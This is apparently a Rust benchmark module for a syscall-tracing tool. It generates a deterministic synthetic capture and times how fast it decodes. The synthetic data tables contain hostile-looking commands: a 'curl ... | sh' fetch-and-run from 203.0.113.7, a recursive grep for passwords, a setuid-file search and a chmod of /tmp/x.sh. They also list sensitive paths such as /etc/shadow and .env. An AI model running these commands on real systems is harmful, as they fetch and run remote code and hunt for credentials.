//! The synthetic capture generator and the in-process read+decode measurement.
//!
//! `cargo xtask bench synth --syscalls N FILE` writes a capture of exactly N syscall records
//! plus the lifecycle records (fork, exec, exit) of the processes that make them, in time
//! order, with the capture-format writer at its default settings (1 MiB chunks, zstd level
//! 3), like the recorder. The content is deterministic (a fixed-seed xorshift), so two runs
//! write the same events. What is in it:
//! - host, clock, users and container metadata blocks, and a start snapshot of 24
//!   long-lived processes (web workers, a database, a cron daemon, shells), 8 of them in two
//!   podman containers;
//! - every ~2,000 syscalls a short-lived command: its parent forks (clone), the child
//!   execs one of 16 command lines (execve with path and argv, then the exec record with
//!   argv, cwd and exe), makes 20-200 syscalls, and exits (exit_group, exit record);
//! - the syscall mix, by weight: read 22, write 14 (buffers of 8..2048 bytes, the first 256
//!   kept as the default snaplen does, text from a corpus of log/HTTP/SQL lines), openat 7
//!   (70 paths, 15 % failing with ENOENT), close 7, futex 8, epoll_wait 6, newfstatat 5,
//!   mmap 4, rt_sigprocmask 3, clock_nanosleep 3, recvfrom 3 and sendto 3 (buffer and IPv4
//!   address), mprotect 2, munmap 2, getpid 2, lseek 2, fcntl 2, brk 1, getdents64 1,
//!   connect 1, ioctl 1, accept4 1;
//! - time advances 0.3-3 us per record; each process keeps to one of the two CPUs.
//!
//! `cargo xtask bench decode FILE` opens a capture (the inspector's open: map, frame, index)
//! and decodes every event on one thread with the reader's event cursor (each record
//! decoded in full into one reused `Event`, as the inspector's passes decode), then again
//! with the owned-event iterator `events()` (a fresh `Event` per record), then decompresses
//! every chunk alone (zstd only), printing one JSON line with the times.

use std::{
    fs::File,
    io::BufWriter,
    path::Path,
    time::{Duration, Instant},
};

use anyhow::{Context as _, Result};
use capture_format::{
    syscall_number, Abi, Buffer, BufferCut, CaptureReader, CaptureWriter, ClockPair, Completion,
    ContainerInfo, Event, EventBody, ExecEvent, ExitEvent, ForkEvent, GroupInfo, HostInfo, Param,
    ParamValue, ProcessInfo, ProcessSnapshot, Records, SockAddr, SyscallEvent, UserInfo,
    UsersAndGroups, WriterOptions,
};
use serde::Serialize;

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        // xorshift64*
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
    fn chance(&mut self, percent: u64) -> bool {
        self.below(100) < percent
    }
}

const CORPUS: &[&str] = &[
    "GET /api/v1/orders?page=3&limit=50 HTTP/1.1\r\nHost: shop.internal\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n",
    "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 1534\r\n\r\n{\"orders\":[{\"id\":88213,\"status\":\"shipped\"}]}",
    "2026-11-23T17:20:20.896Z INFO  worker-3 request_id=6f1c2 handled GET /healthz in 0.412ms\n",
    "SELECT id, customer_id, total FROM orders WHERE created_at > $1 ORDER BY id LIMIT 50;",
    "{\"level\":\"warn\",\"ts\":1795454420.12,\"msg\":\"slow query\",\"duration_ms\":184,\"table\":\"orders\"}\n",
    "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n",
    "#!/bin/sh\nset -e\ncurl -fsSL http://203.0.113.7/x.sh | sh\necho done\n",
    "Nov 23 17:20:21 node-1 sshd[812]: Accepted publickey for deploy from 198.51.100.23 port 50122 ssh2\n",
];

const PATHS: &[&str] = &[
    "/etc/passwd",
    "/etc/group",
    "/etc/hosts",
    "/etc/resolv.conf",
    "/etc/nsswitch.conf",
    "/etc/ld.so.cache",
    "/etc/localtime",
    "/etc/ssl/certs/ca-certificates.crt",
    "/etc/shadow",
    "/lib/x86_64-linux-gnu/libc.so.6",
    "/lib/x86_64-linux-gnu/libm.so.6",
    "/lib/x86_64-linux-gnu/libpthread.so.0",
    "/lib/x86_64-linux-gnu/libssl.so.3",
    "/lib/x86_64-linux-gnu/libcrypto.so.3",
    "/lib/x86_64-linux-gnu/libz.so.1",
    "/usr/lib/locale/locale-archive",
    "/proc/self/stat",
    "/proc/self/status",
    "/proc/meminfo",
    "/proc/loadavg",
    "/proc/stat",
    "/sys/fs/cgroup/cpu.max",
    "/sys/fs/cgroup/memory.max",
    "/var/www/html/index.html",
    "/var/www/html/static/app.js",
    "/var/www/html/static/app.css",
    "/var/www/html/img/logo.png",
    "/var/log/nginx/access.log",
    "/var/log/nginx/error.log",
    "/var/lib/postgresql/15/main/base/16384/2619",
    "/var/lib/postgresql/15/main/base/16384/2840",
    "/var/lib/postgresql/15/main/pg_wal/000000010000000000000003",
    "/var/lib/postgresql/15/main/global/pg_control",
    "/run/nginx.pid",
    "/run/crond.pid",
    "/tmp/.X11-unix",
    "/tmp/sess_8f2a1c",
    "/tmp/upload-3391.tmp",
    "/tmp/x.sh",
    "/home/deploy/.bashrc",
    "/home/deploy/.profile",
    "/home/deploy/.ssh/authorized_keys",
    "/home/deploy/app/config.yaml",
    "/home/deploy/app/.env",
    "/root/.bash_history",
    "/usr/share/zoneinfo/UTC",
    "/usr/bin/python3",
    "/usr/bin/curl",
    "/usr/bin/bash",
    "/usr/lib/python3.11/os.py",
    "/usr/lib/python3.11/json/__init__.py",
    "/usr/lib/python3.11/__pycache__/os.cpython-311.pyc",
    "/dev/null",
    "/dev/urandom",
    "/dev/pts/0",
    "/etc/cron.d/backup",
    "/etc/crontab",
    "/var/spool/cron/crontabs/root",
    "/etc/nginx/nginx.conf",
    "/etc/nginx/sites-enabled/default",
    "/etc/postgresql/15/main/pg_hba.conf",
    "/srv/data/export-2026-11-23.csv",
    "/srv/data/import/batch-0001.json",
    "/opt/app/bin/server",
    "/opt/app/lib/plugins/auth.so",
    "/var/cache/apt/pkgcache.bin",
    "/var/lib/dpkg/status",
    "/etc/os-release",
    "/etc/hostname",
    "/proc/sys/kernel/random/boot_id",
];

const COMMANDS: &[(&str, &[&str])] = &[
    ("/usr/bin/ls", &["ls", "-la", "/var/www/html"]),
    ("/usr/bin/cat", &["cat", "/etc/passwd"]),
    (
        "/usr/bin/grep",
        &["grep", "-r", "password", "/home/deploy/app"],
    ),
    (
        "/usr/bin/curl",
        &["curl", "-fsSL", "http://203.0.113.7/x.sh"],
    ),
    (
        "/usr/bin/sh",
        &["sh", "-c", "curl -fsSL http://203.0.113.7/x.sh | sh"],
    ),
    (
        "/usr/bin/python3",
        &[
            "python3",
            "/home/deploy/app/manage.py",
            "migrate",
            "--noinput",
        ],
    ),
    (
        "/usr/bin/pg_dump",
        &["pg_dump", "-Fc", "-f", "/srv/data/backup.dump", "shop"],
    ),
    (
        "/usr/bin/gzip",
        &["gzip", "-9", "/srv/data/export-2026-11-23.csv"],
    ),
    ("/usr/bin/id", &["id"]),
    ("/usr/bin/uname", &["uname", "-a"]),
    ("/usr/bin/whoami", &["whoami"]),
    ("/usr/bin/ps", &["ps", "auxww"]),
    (
        "/usr/bin/find",
        &["find", "/", "-perm", "-4000", "-type", "f"],
    ),
    ("/usr/bin/base64", &["base64", "-d"]),
    ("/usr/bin/chmod", &["chmod", "+x", "/tmp/x.sh"]),
    ("/usr/sbin/nginx", &["nginx", "-s", "reload"]),
];

/// Weighted syscall names (see the module doc).
const MIX: &[(&str, u64)] = &[
    ("read", 22),
    ("write", 14),
    ("openat", 7),
    ("close", 7),
    ("futex", 8),
    ("epoll_wait", 6),
    ("newfstatat", 5),
    ("mmap", 4),
    ("rt_sigprocmask", 3),
    ("clock_nanosleep", 3),
    ("recvfrom", 3),
    ("sendto", 3),
    ("mprotect", 2),
    ("munmap", 2),
    ("getpid", 2),
    ("lseek", 2),
    ("fcntl", 2),
    ("brk", 1),
    ("getdents64", 1),
    ("connect", 1),
    ("ioctl", 1),
    ("accept4", 1),
];

const SNAPLEN: usize = 256;
const BOOT_T0: u64 = 3_600_000_000_000;
const REALTIME_T0: i64 = 1_795_454_400_000_000_000;

struct Proc {
    pid: u32,
    ppid: u32,
    cpu: u32,
    cgroup: u64,
    comm: String,
    /// Syscalls left before a short-lived command exits (None: long-lived).
    left: Option<u32>,
}

struct Gen {
    rng: Rng,
    ts: u64,
    next_pid: u32,
    mix_total: u64,
    nr: std::collections::HashMap<&'static str, u32>,
}

impl Gen {
    fn tick(&mut self) -> u64 {
        self.ts += 300 + self.rng.below(2700);
        self.ts
    }

    fn buffer(&mut self, len: usize) -> ParamValue {
        let text = self.rng.pick(CORPUS).as_bytes();
        let start = self.rng.below(text.len() as u64) as usize;
        let kept = len.min(SNAPLEN);
        let data: Vec<u8> = text
            .iter()
            .cycle()
            .skip(start)
            .take(kept)
            .copied()
            .collect();
        ParamValue::Buffer(Buffer {
            data,
            original_len: len as u64,
            cut: if len > SNAPLEN {
                BufferCut::Snaplen
            } else {
                BufferCut::Whole
            },
        })
    }

    fn syscall(&mut self, p: &Proc, name: &'static str) -> Event {
        let r = &mut self.rng;
        let fd = 3 + r.below(12) as i64;
        let len = match r.below(10) {
            0..=5 => 8 + r.below(120) as usize,
            6..=8 => 128 + r.below(896) as usize,
            _ => 1024 + r.below(1024) as usize,
        };
        let mut params = Vec::new();
        let (args, ret): ([u64; 6], i64) = match name {
            "read" | "recvfrom" => {
                let got = if r.chance(10) { 0 } else { len };
                params.push(Param {
                    slot: 1,
                    value: self.buffer(got),
                });
                if name == "recvfrom" {
                    params.push(Param {
                        slot: 4,
                        value: ParamValue::SockAddr(SockAddr::Inet {
                            addr: [10, 88, 0, 1 + self.rng.below(40) as u8],
                            port: 40000 + self.rng.below(20000) as u16,
                        }),
                    });
                }
                ([fd as u64, 0x7ffd_1000_0000, 65536, 0, 0, 0], got as i64)
            }
            "write" | "sendto" => {
                params.push(Param {
                    slot: 1,
                    value: self.buffer(len),
                });
                if name == "sendto" {
                    params.push(Param {
                        slot: 4,
                        value: ParamValue::SockAddr(SockAddr::Inet {
                            addr: [10, 88, 0, 1 + self.rng.below(40) as u8],
                            port: 5432,
                        }),
                    });
                }
                (
                    [fd as u64, 0x5600_2000_0000, len as u64, 0, 0, 0],
                    len as i64,
                )
            }
            "openat" | "newfstatat" => {
                let path = self.rng.pick(PATHS).as_bytes().to_vec();
                params.push(Param {
                    slot: 1,
                    value: ParamValue::Path(path),
                });
                let ret = if self.rng.chance(15) {
                    -2
                } else if name == "openat" {
                    fd
                } else {
                    0
                };
                (
                    [(-100i64) as u64, 0x5600_3000_0000, 0o2000000, 0, 0, 0],
                    ret,
                )
            }
            "connect" => {
                params.push(Param {
                    slot: 1,
                    value: ParamValue::SockAddr(SockAddr::Inet {
                        addr: [10, 88, 0, 1 + self.rng.below(40) as u8],
                        port: *self.rng.pick(&[80, 443, 5432, 6379]),
                    }),
                });
                ([fd as u64, 0x7ffd_2000_0000, 16, 0, 0, 0], 0)
            }
            "accept4" => {
                params.push(Param {
                    slot: 1,
                    value: ParamValue::SockAddr(SockAddr::Inet {
                        addr: [198, 51, 100, self.rng.below(250) as u8],
                        port: 30000 + self.rng.below(30000) as u16,
                    }),
                });
                (
                    [fd as u64, 0x7ffd_3000_0000, 0x7ffd_3000_0100, 0x80800, 0, 0],
                    fd + 1,
                )
            }
            "close" | "fcntl" | "lseek" | "ioctl" | "getdents64" => ([fd as u64, 0, 0, 0, 0, 0], 0),
            "getpid" => ([0; 6], i64::from(p.pid)),
            "epoll_wait" => (
                [fd as u64, 0x7ffd_4000_0000, 64, 1000, 0, 0],
                r.below(4) as i64,
            ),
            "futex" => ([0x5600_5000_0000 + r.below(64) * 8, 0x81, 1, 0, 0, 0], 0),
            _ => (
                [
                    0x7f00_0000_0000 + r.below(1 << 20) * 4096,
                    4096,
                    3,
                    0x22,
                    0,
                    0,
                ],
                0,
            ),
        };
        let nr = self.nr[name];
        let ts = self.tick();
        Event {
            ts,
            cpu: p.cpu,
            pid: p.pid,
            tid: p.pid,
            body: EventBody::Syscall(SyscallEvent {
                nr,
                abi: Abi::X86_64,
                completion: Completion::Complete,
                args,
                ret: Some(ret),
                duration_ns: None,
                cgroup_id: p.cgroup,
                params,
            }),
        }
    }

    fn pick_syscall(&mut self) -> &'static str {
        let mut at = self.rng.below(self.mix_total);
        for (name, w) in MIX {
            if at < *w {
                return name;
            }
            at -= w;
        }
        MIX[0].0
    }
}

#[derive(Serialize)]
pub struct GenStats {
    pub syscalls: u64,
    pub events: u64,
    pub bytes: u64,
    pub seconds: f64,
}

pub fn generate(path: &Path, syscalls: u64) -> Result<GenStats> {
    let start = Instant::now();
    let file = File::create(path).with_context(|| format!("creating {}", path.display()))?;
    let mut w = CaptureWriter::new(
        BufWriter::with_capacity(1 << 20, file),
        WriterOptions {
            file_id: Some(*b"aftertrace-synth"),
            ..WriterOptions::default()
        },
    )?;
    let containers = [
        ("4f2a9c1e".repeat(8), 9001u64, "shop-web"),
        ("b7d3e0a5".repeat(8), 9002u64, "shop-db"),
    ];
    w.write_host(&HostInfo {
        hostname: "synthetic-node".into(),
        kernel_release: "6.18.0-synthetic".into(),
        kernel_version: "#1 SMP".into(),
        arch: "x86_64".into(),
        cpu_count: 2,
        boot_id: "00000000-0000-4000-8000-000000000000".into(),
        recorder_version: "xtask-bench-synthetic".into(),
        settings: [("snaplen".to_owned(), SNAPLEN.to_string())].into(),
    })?;
    w.write_clocks(&[ClockPair {
        boot_ns: BOOT_T0,
        realtime_ns: REALTIME_T0,
    }])?;
    w.write_users(&UsersAndGroups {
        users: [
            (0, "root"),
            (33, "www-data"),
            (105, "postgres"),
            (1000, "deploy"),
        ]
        .iter()
        .map(|&(uid, name)| UserInfo {
            uid,
            name: name.into(),
            container_id: String::new(),
        })
        .collect(),
        groups: vec![GroupInfo {
            gid: 0,
            name: "root".into(),
            container_id: String::new(),
        }],
    })?;
    w.write_containers(
        &containers
            .iter()
            .map(|(id, cg, name)| ContainerInfo {
                id: id.clone(),
                runtime: "podman".into(),
                name: Some((*name).into()),
                image: Some(format!("localhost/{name}:1.0")),
                hostname: Some(id[..12].to_owned()),
                cgroup_ids: vec![*cg],
                cgroup_path: format!("/libpod_parent/libpod-{id}"),
                ..ContainerInfo::default()
            })
            .collect::<Vec<_>>(),
    )?;

    let mut g = Gen {
        rng: Rng(0x9E37_79B9_7F4A_7C15),
        ts: BOOT_T0,
        next_pid: 2000,
        mix_total: MIX.iter().map(|(_, w)| w).sum(),
        nr: MIX
            .iter()
            .map(|(n, _)| *n)
            .chain(["clone", "execve", "exit_group"])
            .map(|n| Ok((n, syscall_number(Abi::X86_64, n).context(n)?)))
            .collect::<Result<_>>()?,
    };
    let service_names = [
        "nginx",
        "nginx",
        "nginx",
        "nginx",
        "postgres",
        "postgres",
        "postgres",
        "cron",
        "bash",
        "bash",
        "sshd",
        "python3",
        "node",
        "node",
        "redis-server",
        "containerd",
    ];
    let mut procs: Vec<Proc> = (0..24u32)
        .map(|i| Proc {
            pid: 1000 + i,
            ppid: 1,
            cpu: i % 2,
            cgroup: match i {
                0..=3 => 9001,
                4..=7 => 9002,
                _ => 100 + u64::from(i),
            },
            comm: service_names[i as usize % service_names.len()].to_owned(),
            left: None,
        })
        .collect();
    w.write_processes(&ProcessSnapshot {
        ts: BOOT_T0,
        processes: procs
            .iter()
            .map(|p| ProcessInfo {
                pid: p.pid,
                ppid: p.ppid,
                comm: p.comm.clone(),
                exe: Some(format!("/usr/sbin/{}", p.comm).into_bytes()),
                argv: vec![p.comm.clone().into_bytes()],
                cwd: Some(b"/".to_vec()),
                cgroup_id: p.cgroup,
                start_ts: Some(BOOT_T0 - 1_000_000_000),
                ..ProcessInfo::default()
            })
            .collect(),
    })?;

    let mut made = 0u64;
    let mut events = 0u64;
    let mut next_spawn = 2000u64;
    while made < syscalls {
        // A short-lived command now and then.
        if made >= next_spawn && procs.len() < 64 {
            next_spawn = made + 1000 + g.rng.below(2000);
            let parent_i = g.rng.below(24) as usize;
            let (ppid, pcpu, pcg) = {
                let p = &procs[parent_i];
                (p.pid, p.cpu, p.cgroup)
            };
            let child = g.next_pid;
            g.next_pid += 1;
            let (exe, argv) = *g.rng.pick(COMMANDS);
            let parent = Proc {
                pid: ppid,
                ppid: 1,
                cpu: pcpu,
                cgroup: pcg,
                comm: String::new(),
                left: None,
            };
            let mut clone = g.syscall(&parent, "futex");
            if let EventBody::Syscall(s) = &mut clone.body {
                s.nr = g.nr["clone"];
                s.args = [0x1200011, 0, 0, 0, 0, 0];
                s.ret = Some(i64::from(child));
                s.params.clear();
            }
            let fork = Event {
                ts: g.tick(),
                cpu: pcpu,
                pid: ppid,
                tid: ppid,
                body: EventBody::Fork(ForkEvent {
                    child_pid: child,
                    child_tid: child,
                    cgroup_id: pcg,
                }),
            };
            let cp = Proc {
                pid: child,
                ppid,
                cpu: pcpu,
                cgroup: pcg,
                comm: exe.rsplit('/').next().unwrap_or(exe).to_owned(),
                left: Some(20 + g.rng.below(180) as u32),
            };
            let mut execve = g.syscall(&cp, "futex");
            if let EventBody::Syscall(s) = &mut execve.body {
                s.nr = g.nr["execve"];
                s.args = [
                    0x5600_6000_0000,
                    0x7ffd_5000_0000,
                    0x7ffd_5000_0100,
                    0,
                    0,
                    0,
                ];
                s.ret = Some(0);
                s.params = vec![
                    Param {
                        slot: 0,
                        value: ParamValue::Path(exe.as_bytes().to_vec()),
                    },
                    Param {
                        slot: 1,
                        value: ParamValue::StrList {
                            items: argv.iter().map(|a| a.as_bytes().to_vec()).collect(),
                            truncated: false,
                        },
                    },
                ];
            }
            let exec = Event {
                ts: g.tick(),
                cpu: pcpu,
                pid: child,
                tid: child,
                body: EventBody::Exec(ExecEvent {
                    filename: exe.as_bytes().to_vec(),
                    argv: argv.iter().map(|a| a.as_bytes().to_vec()).collect(),
                    argv_truncated: false,
                    ppid,
                    uid: 1000,
                    gid: 1000,
                    euid: 1000,
                    egid: 1000,
                    cgroup_id: pcg,
                    exe: Some(exe.as_bytes().to_vec()),
                    cwd: Some(b"/home/deploy".to_vec()),
                }),
            };
            for e in [clone, fork, execve, exec] {
                w.push_event(&e)?;
                events += 1;
            }
            made += 2;
            procs.push(cp);
            continue;
        }
        // Mostly the long-lived services, a third of the time a short-lived command.
        let i = if procs.len() > 24 && g.rng.chance(33) {
            24 + g.rng.below(procs.len() as u64 - 24) as usize
        } else {
            g.rng.below(24) as usize
        };
        let name = g.pick_syscall();
        let e = g.syscall(&procs[i], name);
        w.push_event(&e)?;
        events += 1;
        made += 1;
        if let Some(left) = procs[i].left.as_mut() {
            *left = left.saturating_sub(1);
            if *left == 0 && made < syscalls {
                let p = procs.swap_remove(i);
                let mut exit_group = g.syscall(&p, "futex");
                if let EventBody::Syscall(s) = &mut exit_group.body {
                    s.nr = g.nr["exit_group"];
                    s.args = [0; 6];
                    s.completion = Completion::EnterOnly;
                    s.ret = None;
                }
                let exit = Event {
                    ts: g.tick(),
                    cpu: p.cpu,
                    pid: p.pid,
                    tid: p.pid,
                    body: EventBody::Exit(ExitEvent {
                        status: 0,
                        group_dead: true,
                    }),
                };
                w.push_event(&exit_group)?;
                w.push_event(&exit)?;
                events += 2;
                made += 1;
            }
        }
    }
    let out = w.finish()?;
    let file = out.into_inner().map_err(|e| e.into_error())?;
    file.sync_all().ok();
    let bytes = file.metadata()?.len();
    Ok(GenStats {
        syscalls: made,
        events,
        bytes,
        seconds: start.elapsed().as_secs_f64(),
    })
}

#[derive(Clone, Debug, Default, Serialize, serde::Deserialize)]
pub struct DecodeStats {
    pub open_s: f64,
    /// Every record decoded with the event cursor.
    pub decode_s: f64,
    /// Every record decoded with the owned-event iterator.
    #[serde(default)]
    pub owned_decode_s: f64,
    /// Decompressing every chunk alone (zstd), no record decoding.
    pub zstd_s: f64,
    pub events: u64,
    pub syscalls: u64,
}

/// Opens `path` and decodes every event on this thread.
pub fn decode(path: &Path) -> Result<DecodeStats> {
    let t = Instant::now();
    let reader =
        CaptureReader::open(path).with_context(|| format!("opening {}", path.display()))?;
    let open = t.elapsed();
    let t = Instant::now();
    let (mut events, mut syscalls) = (0u64, 0u64);
    let mut cursor = reader.event_cursor(Records::All);
    while let Some(e) = cursor.next() {
        let e = e?;
        events += 1;
        if matches!(e.body, EventBody::Syscall(_)) {
            syscalls += 1;
        }
    }
    let decode: Duration = t.elapsed();
    let t = Instant::now();
    let mut owned_events = 0u64;
    for e in reader.events() {
        std::hint::black_box(e?);
        owned_events += 1;
    }
    let owned_decode = t.elapsed();
    if owned_events != events {
        anyhow::bail!("the cursor decoded {events} events, the iterator {owned_events}");
    }
    let t = Instant::now();
    for i in 0..reader.chunks().len() {
        let raw = reader.raw_chunk(i)?;
        let bytes = zstd::bulk::decompress(&raw.data, raw.raw_len as usize)
            .with_context(|| format!("decompressing chunk {i}"))?;
        std::hint::black_box(bytes);
    }
    let zstd_s = t.elapsed().as_secs_f64();
    Ok(DecodeStats {
        open_s: open.as_secs_f64(),
        decode_s: decode.as_secs_f64(),
        owned_decode_s: owned_decode.as_secs_f64(),
        zstd_s,
        events,
        syscalls,
    })
}
